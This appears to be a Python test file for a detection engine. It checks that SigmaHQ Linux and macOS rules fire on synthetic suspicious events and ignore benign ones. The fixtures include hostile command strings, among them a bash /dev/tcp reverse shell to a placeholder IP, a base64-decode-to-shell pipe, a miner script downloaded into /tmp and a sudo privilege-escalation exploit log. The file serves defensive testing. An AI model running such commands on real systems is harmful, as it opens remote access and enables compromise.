"""Linux and macOS detection (pure, no services): SigmaHQ's own rules, compiled by the
project's compiler and run by the engine the job runs, fire on events shaped like what a
Linux sensor, auditd, a syslog forwarder or macOS's eslogger send, and stay quiet on
benign ones; and nearly all of SigmaHQ's ``rules/linux`` + ``rules/macos`` are planned."""

from __future__ import annotations

import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from detections.compiler.plan import DetectionPlan, load_plan
from detections.engine.apply import match_events

REPO_ROOT = Path(__file__).resolve().parents[2]
SHARED_DATA = Path(os.environ.get("SIGSTREAM_SHARED_DATA", REPO_ROOT.parent / "shared" / "data"))
SIGMA = SHARED_DATA / "sigma"
RULES = SIGMA / "rules"
MIN_PLANNED = 0.95

_counter = iter(range(1, 1_000_000))


def event(event_type: str, product: str, category: str | None = None, **fields: Any) -> dict:
    """A schema event as a sensor sends it (envelope + logsource + Sigma fields)."""
    service = fields.pop("service", None)
    return {
        "sensor_id": "lnx-01",
        "host": "web-01",
        "event_id": f"e-{next(_counter)}",
        "event_time": "2026-03-01T10:00:00Z",
        "event_type": event_type,
        "logsource": {"product": product, "category": category, "service": service},
        **fields,
    }


def proc(product: str, **fields: Any) -> dict:
    return event("process_creation", product, "process_creation", **fields)


def auditd(**fields: Any) -> dict:
    return event("auditd", "linux", service="auditd", **fields)


def log(service: str | None, message: str, program: str | None = None) -> dict:
    return event("linux_log", "linux", service=service, message=message, program=program)


def plan_of(rule: str) -> DetectionPlan:
    path = SIGMA / rule
    if not path.is_file():
        pytest.skip(f"SigmaHQ rule {rule} not found under {SIGMA} (expected ../shared/data)")
    plan = load_plan([path])
    assert len(plan.rules) == 1, [r.message for r in plan.rejections]
    return plan


def firing(rule: str, events: list[dict]) -> list[int]:
    """Positions of the events the rule matches."""
    return sorted({position for position, _ in match_events(plan_of(rule), events)})


# (rule, an event that must fire it, a benign event of the same kind)
CASES: dict[str, tuple[str, dict, dict]] = {
    "linux process_creation": (
        "rules/linux/process_creation/proc_creation_lnx_base64_execution.yml",
        proc(
            "linux",
            Image="/usr/bin/dash",
            CommandLine="sh -c echo aWQK | base64 -d | sh",
            ParentImage="/usr/bin/bash",
            ProcessId=4242,
            User="www-data",
        ),
        proc("linux", Image="/usr/bin/base64", CommandLine="base64 -d backup.b64"),
    ),
    "linux process_creation, user and directory": (
        "rules/linux/process_creation/proc_creation_lnx_omigod_scx_runasprovider_executeshellcommand.yml",
        proc(
            "linux",
            Image="/bin/sh",
            CommandLine="/bin/sh -c id",
            User="root",
            LogonId=0,
            CurrentDirectory="/var/opt/microsoft/scx/tmp",
        ),
        proc(
            "linux",
            Image="/bin/sh",
            CommandLine="/bin/sh -c id",
            User="root",
            LogonId=0,
            CurrentDirectory="/root",
        ),
    ),
    "linux file_event": (
        "rules/linux/file_event/file_event_lnx_wget_download_file_in_tmp_dir.yml",
        event(
            "file_event",
            "linux",
            "file_event",
            Image="/usr/bin/wget",
            TargetFilename="/tmp/xmrig.sh",
            ProcessId=977,
        ),
        event(
            "file_event",
            "linux",
            "file_event",
            Image="/usr/bin/wget",
            TargetFilename="/home/ops/debian.iso",
        ),
    ),
    "linux network_connection": (
        "rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml",
        event(
            "network_connection",
            "linux",
            "network_connection",
            Image="/usr/bin/python3",
            Initiated="true",
            Protocol="tcp",
            SourceIp="10.1.2.3",
            SourcePort=51234,
            DestinationIp="203.0.113.9",
            DestinationPort=4444,
        ),
        event(
            "network_connection",
            "linux",
            "network_connection",
            Image="/usr/bin/python3",
            Initiated="true",
            DestinationIp="10.1.2.4",
            DestinationPort=4444,
        ),
    ),
    "auditd EXECVE record, fields and keywords": (
        "rules/linux/auditd/execve/lnx_auditd_binary_padding.yml",
        auditd(type="EXECVE", argc=4, a0="truncate", a1="-s", a2="+4096", a3="/tmp/implant"),
        auditd(type="EXECVE", argc=2, a0="ls", a1="-la"),
    ),
    "auditd SYSCALL record, enriched name": (
        "rules/linux/auditd/syscall/lnx_auditd_web_rce.yml",
        auditd(
            type="SYSCALL",
            syscall=59,
            SYSCALL="execve",
            success="yes",
            exit=0,
            pid=31337,
            ppid=1200,
            auid=4294967295,
            uid=33,
            euid=33,
            comm="sh",
            exe="/usr/bin/dash",
            extra={"arch": "c000003e", "key": "exec", "AUID": "unset", "EUID": "www-data"},
        ),
        auditd(type="SYSCALL", syscall=59, SYSCALL="execve", euid=1000, exe="/usr/bin/dash"),
    ),
    "auditd PATH record": (
        "rules/linux/auditd/lnx_auditd_keylogging_with_pam_d.yml",
        auditd(
            type="PATH",
            name="/etc/pam.d/system-auth",
            nametype="NORMAL",
            extra={"item": "0", "inode": "1835122", "mode": "0100644"},
        ),
        auditd(type="PATH", name="/etc/pam.d/sshd", nametype="NORMAL"),
    ),
    "sshd log": (
        "rules/linux/builtin/sshd/lnx_sshd_susp_ssh.yml",
        log("sshd", "error: Corrupted MAC on input. [preauth]", "sshd"),
        log("sshd", "Accepted publickey for ops from 10.0.0.8 port 50022 ssh2", "sshd"),
    ),
    "syslog": (
        "rules/linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml",
        log("syslog", "Stopping falcon-sensor.service - CrowdStrike Falcon Sensor", "systemd"),
        log("syslog", "Started Daily apt download activities.", "systemd"),
    ),
    "vsftpd log": (
        "rules/linux/builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml",
        log("vsftpd", '[ftp] FAIL LOGIN: Client "::ffff:203.0.113.7", weird status: 3'),
        log("vsftpd", '[ftp] OK LOGIN: Client "::ffff:10.0.0.7"'),
    ),
    "clamav log": (
        "rules/linux/builtin/clamav/lnx_clamav_relevant_message.yml",
        log("clamav", "/srv/www/upload/x.php: Php.Webshell.Generic-1 FOUND", "clamd"),
        log("clamav", "/srv/www/upload/x.php: OK", "clamd"),
    ),
    "cron log": (
        "rules/linux/builtin/cron/lnx_cron_crontab_file_modification.yml",
        log("cron", "(root) REPLACE (root)", "crontab"),
        log("cron", "(root) CMD (run-parts /etc/cron.hourly)", "CRON"),
    ),
    "guacamole log": (
        "rules/linux/builtin/guacamole/lnx_guacamole_susp_guacamole.yml",
        log("guacamole", 'User "admin" joined connection "$abc" (2 users now present)', "guacd"),
        log("guacamole", 'User "admin" joined connection "$abc" (1 users now present)', "guacd"),
    ),
    "auth log (emerging threat)": (
        "rules-emerging-threats/2021/Exploits/CVE-2021-4034/"
        "lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml",
        log(
            "auth",
            "pkexec --version: The value for environment variable XAUTHORITY contains "
            "suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/tmp] [COMMAND=GCONV_PATH=.]",
            "pkexec",
        ),
        log("auth", "pkexec: pam_unix(polkit-1:session): session opened for user root", "pkexec"),
    ),
    "sudo log, parsed fields (emerging threat)": (
        "rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml",
        event(
            "linux_log",
            "linux",
            service="sudo",
            program="sudo",
            message="alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/usr/bin/id",
            extra={"TTY": "pts/0", "PWD": "/home/alice", "USER": "#-1", "COMMAND": "/usr/bin/id"},
        ),
        event(
            "linux_log",
            "linux",
            service="sudo",
            program="sudo",
            message="alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id",
            extra={"TTY": "pts/0", "PWD": "/home/alice", "USER": "root", "COMMAND": "/usr/bin/id"},
        ),
    ),
    "linux, any log (product-only rule)": (
        "rules/linux/builtin/lnx_shell_clear_cmd_history.yml",
        log(None, "root: history -c", "bash"),
        log(None, "root: history | tail", "bash"),
    ),
    "macos process_creation": (
        "rules/macos/process_creation/proc_creation_macos_base64_decode.yml",
        proc(
            "macos",
            Image="/usr/bin/base64",
            CommandLine="base64 -d -i /tmp/payload.b64",
            ParentImage="/bin/zsh",
            ProcessId=812,
            User="alice",
        ),
        proc("macos", Image="/usr/bin/base64", CommandLine="base64 -i report.pdf"),
    ),
    "macos file_event": (
        "rules/macos/file_event/file_event_macos_susp_startup_item_created.yml",
        event(
            "file_event",
            "macos",
            "file_event",
            Image="/usr/bin/cp",
            TargetFilename="/Library/StartupItems/Updater/StartupParameters.plist",
        ),
        event(
            "file_event",
            "macos",
            "file_event",
            Image="/usr/bin/cp",
            TargetFilename="/Users/alice/Library/Preferences/com.apple.dock.plist",
        ),
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_sigmahq_rule_fires_on_its_event_and_not_on_a_benign_one(case: str) -> None:
    rule, bad, benign = CASES[case]
    assert firing(rule, [bad, benign]) == [0]


def _as(product: str, original: dict) -> dict:
    changed = dict(original, event_id=f"{original['event_id']}-{product}")
    changed["logsource"] = {**original["logsource"], "product": product}
    return changed


@pytest.mark.parametrize(
    "case", ["linux process_creation", "linux file_event", "macos process_creation"]
)
def test_a_rule_never_sees_another_products_events(case: str) -> None:
    """The same fields from another OS do not fire the rule: routing is by product."""
    rule, bad, _ = CASES[case]
    others = [p for p in ("windows", "linux", "macos") if p != bad["logsource"]["product"]]
    assert firing(rule, [_as(other, bad) for other in others]) == []


def test_service_rules_see_only_their_service() -> None:
    """An sshd message sent as another service's log does not fire the sshd rule."""
    rule, bad, _ = CASES["sshd log"]
    assert firing(rule, [log("syslog", bad["message"]), log(None, bad["message"])]) == []


def test_auditd_fields_are_found_in_extra_too() -> None:
    """A sensor that puts every key of the record in ``extra`` is matched all the same."""
    rule, bad, benign = CASES["auditd EXECVE record, fields and keywords"]
    keys = ("type", "argc", "a0", "a1", "a2", "a3")
    as_extra = [auditd(extra={k: str(e[k]) for k in keys if k in e}) for e in (bad, benign)]
    assert firing(rule, as_extra) == [0]


def test_product_only_rules_search_every_linux_event() -> None:
    """A rule naming only ``product: linux`` searches the text of every Linux event (here a
    process start's command line), and no other product's."""
    rule = "rules/linux/builtin/lnx_susp_jexboss.yml"
    text = "bash -c /bin/bash -i >&/dev/tcp/203.0.113.5/4444 0>&1"
    events = [
        proc("linux", Image="/usr/bin/bash", CommandLine=text),
        log("syslog", f"jboss: exec {text}"),
        proc("windows", Image="C:\\bash.exe", CommandLine=text),
        proc("linux", Image="/usr/bin/bash", CommandLine="bash -c /bin/bash"),
    ]
    assert firing(rule, events) == [0, 1]


@pytest.fixture(scope="module")
def linux_macos_plan() -> DetectionPlan:
    folders = [RULES / "linux", RULES / "macos"]
    missing = [str(f) for f in folders if not f.is_dir()]
    if missing:
        pytest.skip(f"SigmaHQ rules not found: {', '.join(missing)} (expected ../shared/data)")
    return load_plan(folders)


def test_at_least_95_percent_of_linux_and_macos_rules_are_planned(
    linux_macos_plan: DetectionPlan,
) -> None:
    plan = linux_macos_plan
    total = len(plan.rules) + len(plan.rejections)
    reasons = Counter(r.reason for r in plan.rejections)
    print(f"\nplanned {len(plan.rules)} of {total} Linux + macOS rules; refused: {dict(reasons)}")
    for rejection in plan.rejections:
        print(f"  {rejection.reason}: {rejection.message[:200]}")
    assert total > 0
    assert len(plan.rules) / total >= MIN_PLANNED
    for rejection in plan.rejections:
        assert rejection.reason and rejection.message, rejection
    products = {route.product for route in plan.routes}
    assert products <= {"linux", "macos"}, products


def test_rule_test_documents_of_linux_service_logs_get_their_logsource() -> None:
    """`sigstream rules test` documents may leave the logsource out: an auditd record is
    then linux/auditd (not the Windows default), and the auditd rule sees it."""
    from detections.content.workflow.events import test_event

    record = test_event({"event_type": "auditd", "type": "EXECVE", "a0": "truncate"}, "t-1")
    assert (record.logsource.product, record.logsource.service) == ("linux", "auditd")
    windows = test_event({"event_type": "process_creation"}, "t-2")
    assert (windows.logsource.product, windows.logsource.category) == (
        "windows",
        "process_creation",
    )
    rule, bad, _ = CASES["auditd EXECVE record, fields and keywords"]
    doc = {k: bad[k] for k in ("event_type", "type", "argc", "a0", "a1", "a2", "a3")}
    assert firing(rule, [test_event(doc, "t-3").model_dump(mode="json")]) == [0]


def test_findings_on_auditd_records_name_the_acting_process() -> None:
    """An auditd record names its process ``exe`` / ``pid``: the finding's ECS ``process``
    carries them, as it carries ``Image`` / ``ProcessId`` of a process event."""
    from detections.sinks.finding_docs import build_finding
    from schemas.events import parse_event
    from schemas.findings import RuleInfo

    _, bad, _ = CASES["auditd SYSCALL record, enriched name"]
    finding = build_finding(RuleInfo(id="r", name="r"), parse_event(bad).model_dump())
    assert (finding.process.executable, finding.process.pid) == ("/usr/bin/dash", "31337")
